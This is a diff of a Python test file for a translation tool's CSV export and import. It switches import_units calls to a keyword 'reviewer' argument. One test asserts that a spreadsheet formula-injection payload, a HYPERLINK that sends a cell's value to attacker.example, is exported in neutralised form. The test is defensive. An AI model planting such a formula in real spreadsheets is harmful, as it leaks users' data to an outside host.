@@ -81,7 +81,7 @@ def test_the_export_is_safe_and_an_unchanged_import_changes_nothing(hostile: Eng
     assert rows[0] == ["key", "language", "status", "source", "target", "flags"]
     assert '\'=HYPERLINK("http://attacker.example/?x="&A1,"Click")' in [row[3] for row in rows]
     with session_scope(hostile) as session:
-        report = import_units(session, exported, "csv", "units.hi.csv", "asha")
+        report = import_units(session, exported, "csv", "units.hi.csv", reviewer="asha")
         after = {unit.course_id: (unit.source_text, unit.text, unit.status) for unit in list_units(session, "hi")}
     assert (report.edited, report.approved, report.unchanged) == (0, 0, len(HOSTILE_NAMES))
     assert after == before
@@ -97,7 +97,7 @@ def test_a_target_a_translator_wrote_after_the_apostrophe_arrives_as_written(hos
     buffer = io.StringIO()
     csv.writer(buffer).writerows([header, body[0]])
     with session_scope(hostile) as session:
-        report = import_units(session, buffer.getvalue().encode(), "csv", "units.hi.csv", "asha")
+        report = import_units(session, buffer.getvalue().encode(), "csv", "units.hi.csv", reviewer="asha")
         key = body[0][header.index("key")]
         (unit,) = [u for u in list_units(session, "hi") if f"{u.course_id}|{u.field}" == restore_cell(key)]
         assert report.edited == 1 and get_unit(session, unit.id).text == "=SUM(A1:A2) का अनुवाद"
@@ -126,5 +126,5 @@ def test_export_over_http_and_the_command_line_is_safe(
 
 def test_the_import_checks_the_csv_header(small_kcm_engine: Engine):
     with session_scope(small_kcm_engine) as session, pytest.raises(IngestRejectedError) as rejected:
-        import_units(session, b"key,language,source,target,lang\n", "csv", "u.csv", "asha")
+        import_units(session, b"key,language,source,target,lang\n", "csv", "u.csv", reviewer="asha")
     assert str(rejected.value.problems[0]).startswith("u.csv:1: header.lang: unknown column 'lang'")
